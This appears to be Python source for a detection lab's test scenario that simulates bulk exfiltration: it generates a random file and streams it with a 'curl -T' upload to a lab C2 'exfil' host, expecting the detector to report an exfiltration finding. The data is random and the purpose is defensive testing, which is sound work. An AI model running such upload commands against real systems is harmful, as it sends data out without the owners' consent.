"""Exfiltration: one bulk HTTP upload of `size_bytes` random bytes from a VMN to the C2 host."""

from __future__ import annotations

import contextlib
import os
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import ClassVar

from vmshadow.domain.finding import FindingKind
from vmshadow.lab.scenarios.base import Expectation, NamespaceProcesses, Scenario
from vmshadow.lab.scenarios.beacon import OTHER_TARGET_S
from vmshadow.lab.scenarios.services import UPLOAD_PORT
from vmshadow.lab.state import LabHost

MAX_UPLOAD_BYTES = 512 * 1024 * 1024
_CHUNK = 1024 * 1024


def random_file(path: Path, size_bytes: int) -> Path:
    with path.open("wb") as out:
        left = size_bytes
        while left > 0:
            n = min(left, _CHUNK)
            out.write(os.urandom(n))
            left -= n
    return path


@dataclass
class BulkUpload(Scenario):
    """`curl -T` (an HTTP PUT, streamed) of a random file (incompressible, as stolen archives are) to the exfil host."""

    source: LabHost
    exfil: LabHost
    size_bytes: int = 64 * 1024 * 1024
    name: ClassVar[str] = "bulk_upload"
    max_s: float = 60.0
    _data: Path = field(init=False, repr=False)

    def __post_init__(self) -> None:
        if not 0 < self.size_bytes <= MAX_UPLOAD_BYTES:
            raise ValueError(f"bulk upload size {self.size_bytes} is outside 1..{MAX_UPLOAD_BYTES} bytes")

    @property
    def expected(self) -> Expectation:
        return Expectation(FindingKind.EXFILTRATION, self.source.name, OTHER_TARGET_S)

    @contextlib.contextmanager
    def prepared(self) -> Iterator[None]:
        with tempfile.TemporaryDirectory(prefix="vms-exfil-") as d:  # written before the clock starts
            self._data = random_file(Path(d) / "archive.bin", self.size_bytes)
            yield

    def drive(self, stop: threading.Event) -> None:
        url = f"http://{self.exfil.address.ip}:{UPLOAD_PORT}/upload"
        argv = ["curl", "-s", "-o", "/dev/null", "-H", "Expect:", "-m", str(int(self.max_s)), "-T",
                str(self._data), url]  # fmt: skip
        with NamespaceProcesses() as procs:
            rc = procs.run(self.source.namespace, argv, timeout_s=self.max_s + 5)
        self.outcome = f"curl exit {rc} for {self.size_bytes} bytes"
